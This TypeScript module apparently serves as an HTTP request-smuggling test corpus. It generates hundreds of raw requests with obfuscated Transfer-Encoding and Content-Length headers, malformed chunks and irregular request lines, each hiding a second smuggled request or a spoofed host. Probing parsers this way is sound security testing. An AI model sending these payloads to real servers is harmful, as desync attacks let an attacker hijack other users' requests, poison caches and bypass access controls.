/** A request that one recipient may read as one and another as two. */
export interface Gadget {
  readonly name: string;
  /** With its path, which is no one else's. */
  readonly bytes: string;
}

const inner = "GET /smuggled HTTP/1.1\r\nHost: site\r\n\r\n";
const empty = `0\r\n\r\n${inner}`;

/** Spellings of Transfer-Encoding that some parsers take for chunked, and others overlook. */
const codings: readonly string[] = [
  "Transfer-Encoding: chunked",
  "Transfer-Encoding : chunked",
  " Transfer-Encoding: chunked",
  "\tTransfer-Encoding: chunked",
  "X: y\r\n Transfer-Encoding: chunked",
  "X: y\nTransfer-Encoding: chunked",
  "X: y\rTransfer-Encoding: chunked",
  "X: y\r\rTransfer-Encoding: chunked",
  "Transfer-Encoding:chunked",
  "Transfer-Encoding:\tchunked",
  "Transfer-Encoding: \x0bchunked",
  "Transfer-Encoding: \x0cchunked",
  "Transfer-Encoding: \x00chunked",
  "Transfer-Encoding: \x1fchunked",
  "Transfer-Encoding: \xa0chunked",
  "Transfer-Encoding: chunked\x00",
  "Transfer-Encoding: chunked\x0b",
  "Transfer-Encoding: chunked\xff",
  "Transfer-Encoding: xchunked",
  "Transfer-Encoding: chunkedx",
  "Transfer-Encoding: chunk",
  "Transfer-Encoding: CHUNKED",
  'Transfer-Encoding: "chunked"',
  "Transfer-Encoding: 'chunked'",
  "Transfer-Encoding: chunked;x=y",
  "Transfer-Encoding: ,chunked",
  "Transfer-Encoding: chunked,",
  "Transfer-Encoding: chunked, identity",
  "Transfer-Encoding: identity, chunked",
  "Transfer-Encoding: identity\r\nTransfer-Encoding: chunked",
  "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity",
  "Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked",
  "Transfer-Encoding: chunked\r\nTransfer-Encoding: x",
  "Transfer-Encoding:\r\n chunked",
  "Transfer-Encoding:\r\n\tchunked",
  "Transfer-Encoding",
  "Transfer-Encoding:",
  "Transfer_Encoding: chunked",
  "Transfer.Encoding: chunked",
  "Transfer\x00-Encoding: chunked",
  "Transfer-\xa0Encoding: chunked",
  "Content-Encoding: chunked",
  "TE: chunked",
  "Connection: transfer-encoding\r\nTransfer-Encoding: chunked",
];

/** Spellings of a length that leave a request's end in doubt; N is the length of all that follows. */
const lengths: readonly string[] = [
  "Content-Length: N",
  "Content-Length: 0",
  "Content-Length: 00N",
  "Content-Length: +N",
  "Content-Length: -N",
  "Content-Length: N, N",
  "Content-Length: 0, N",
  "Content-Length: N,",
  "Content-Length: N;x",
  "Content-Length: N.0",
  "Content-Length: 0xN",
  "Content-Length: \x0bN",
  "Content-Length: N\x00",
  'Content-Length: "N"',
  "Content-Length: 0 N",
  "Content-Length:\r\n N",
  "Content-Length : N",
  " Content-Length: N",
  "Content-Length: 0\r\nContent-Length: N",
  "Content-Length: N\r\nContent-Length: N",
  "Content_Length: N",
  "Content-Length\x00: N",
  "X: y\nContent-Length: N",
  "X: y\rContent-Length: N",
  "Content-Length: 18446744073709551616",
  "Content-Length: 4294967296",
  "Connection: content-length\r\nContent-Length: N",
  "Expect: 100-continue\r\nContent-Length: N",
  "Expect: x 100-continue\r\nContent-Length: N",
  "Expect: 100-continue\r\nExpect: 100-continue\r\nContent-Length: N",
];

/** Chunks that some parsers read on after an error, or end elsewhere. */
const chunks: readonly string[] = [
  `1\r\nx\r\n${empty}`,
  `1;\r\nx\r\n${empty}`,
  `1;a=b\r\nx\r\n${empty}`,
  `1;a\nx\r\n${empty}`,
  `1;a\rx\r\n${empty}`,
  `1 ;a\r\nx\r\n${empty}`,
  `1\nx\r\n${empty}`,
  `1\rx\r\n${empty}`,
  `1\r\nx\n${empty}`,
  `1\r\nx${empty}`,
  `1\r\nxy\r\n${empty}`,
  `0x1\r\nx\r\n${empty}`,
  `+1\r\nx\r\n${empty}`,
  `-1\r\nx\r\n${empty}`,
  ` 1\r\nx\r\n${empty}`,
  `1_0\r\nx\r\n${empty}`,
  `\r\n1\r\nx\r\n${empty}`,
  `100000001\r\nx\r\n${empty}`,
  `10000000000000001\r\nx\r\n${empty}`,
  `00000000000000000000001\r\nx\r\n${empty}`,
  `0\r\nX: y\r\n\r\n${inner}`,
  `0\r\nContent-Length: 5\r\n\r\n${inner}`,
  `0\r\n X: y\r\n\r\n${inner}`,
  `0\r\nX: y\n\n${inner}`,
  `0\r\n\n${inner}`,
  `0\n\n${inner}`,
  `0\r\n\r${inner}`,
  `0;a="\r\n\r\n"\r\n\r\n${inner}`,
  `00\r\n\r\n${inner}`,
  `g\r\n\r\n${inner}`,
  `\r\n\r\n${inner}`,
];

/** Request lines and heads of which the one or the other reader makes another request. */
const heads: readonly string[] = [
  "GET P HTTP/1.1\r\nHost: site\r\n\r\n",
  "GET P HTTP/1.0\r\n\r\n",
  "GET P\r\n\r\n",
  "GET P HTTP/0.9\r\nHost: site\r\n\r\n",
  "GET P HTTP/1.10\r\nHost: site\r\n\r\n",
  "GET P HTTP/1.1 \r\nHost: site\r\n\r\n",
  "GET  P HTTP/1.1\r\nHost: site\r\n\r\n",
  "GET\tP HTTP/1.1\r\nHost: site\r\n\r\n",
  "GET P\x0bHTTP/1.1\r\nHost: site\r\n\r\n",
  "GET P x HTTP/1.1\r\nHost: site\r\n\r\n",
  "GET P HTTP/1.1\nHost: site\n\n",
  "GET P HTTP/1.1\rHost: site\r\r",
  "\r\nGET P HTTP/1.1\r\nHost: site\r\n\r\n",
  "\nGET P HTTP/1.1\r\nHost: site\r\n\r\n",
  "GET P HTTP/1.1\r\nHost: site\r\nX: y\r\n\n",
  "GET P HTTP/1.1\r\nHost: site\r\n\x00\r\n\r\n",
  "GET P HTTP/1.1\r\nHost: site\r\nX\r\n\r\n",
  "GET P HTTP/1.1\r\nHost: site\r\nGET /smuggled HTTP/1.1\r\n\r\n",
  "GET P HTTP/1.1\r\nHost: site\r\n: x\r\n\r\n",
  "GET P HTTP/1.1\r\nHost: site\r\nX: \x7f\r\n\r\n",
  "GET http://siteP HTTP/1.1\r\nHost: site\r\n\r\n",
  "GET http://evil:80P HTTP/1.1\r\nHost: site\r\n\r\n",
  "GET http://u@siteP HTTP/1.1\r\nHost: site\r\n\r\n",
  "GET http://site:P HTTP/1.1\r\nHost: site\r\n\r\n",
  "GET http://site:080P HTTP/1.1\r\nHost: site\r\n\r\n",
  "GET //siteP HTTP/1.1\r\nHost: site\r\n\r\n",
  "GET P HTTP/1.1\r\nHost: site\r\nHost: evil\r\n\r\n",
  "GET P HTTP/1.1\r\nHost: site\r\n Host: evil\r\n\r\n",
  "GET P HTTP/1.1\r\n Host: evil\r\nHost: site\r\n\r\n",
  "GET P HTTP/1.1\r\nHost: site\x00.evil\r\n\r\n",
  "GET P HTTP/1.1\r\nHost: u@site\r\n\r\n",
  "GET P HTTP/1.1\r\nHost: [fe80::1%25lo]\r\n\r\n",
  "GET P#x HTTP/1.1\r\nHost: site\r\n\r\n",
  "GET P%20HTTP/1.1%0d%0aX:%20y HTTP/1.1\r\nHost: site\r\n\r\n",
  "GET P\xe9 HTTP/1.1\r\nHost: site\r\n\r\n",
  "TRACE P HTTP/1.1\r\nHost: site\r\nContent-Length: 0\r\n\r\n",
  "OPTIONS * HTTP/1.1\r\nHost: site\r\n\r\n",
  "CONNECT site:80 HTTP/1.1\r\nHost: site\r\n\r\n",
  "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
  "GET P HTTP/1.1\r\nHost: site\r\nConnection: upgrade\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABk\r\n\r\n",
  "GET P HTTP/1.1\r\nHost: site\r\nConnection: upgrade\r\nUpgrade: websocket\r\n\r\n",
  "GET P HTTP/1.1\r\nHost: site\r\nConnection: close, x\r\n\r\n",
  "HEAD P HTTP/1.1\r\nHost: site\r\nContent-Length: 0\r\n\r\n",
];

/**
 * All of them. Each is followed by what makes a second request of it where it is misread, and has a path of its own.
 * @param prefix of the paths
 */
export function gadgets(prefix: string): Gadget[] {
  const all: Gadget[] = [];
  const add = (make: (path: string) => string): void => {
    const path = `${prefix}/${all.length}`;
    const bytes = make(path);
    all.push({ name: JSON.stringify(bytes.slice(0, 160)), bytes });
  };
  const post = (path: string, lines: string, rest: string, method = "POST"): string =>
    `${method} ${path} HTTP/1.1\r\nHost: site\r\n${lines}\r\n\r\n${rest}`;
  for (const coding of codings) {
    add((path) => post(path, coding, empty));
    add((path) => post(path, `Content-Length: ${empty.length}\r\n${coding}`, empty));
    add((path) => post(path, `${coding}\r\nContent-Length: 5`, empty));
  }
  for (const line of lengths) {
    for (const method of ["POST", "GET"]) {
      add((path) => post(path, line.replaceAll("N", String(inner.length)), inner, method));
    }
  }
  for (const body of chunks) add((path) => post(path, "Transfer-Encoding: chunked", body));
  for (const head of heads)
    add((path) => head.replace("P", path).replace(`CONNECT site:80${path}`, "CONNECT site:80"));
  return all;
}
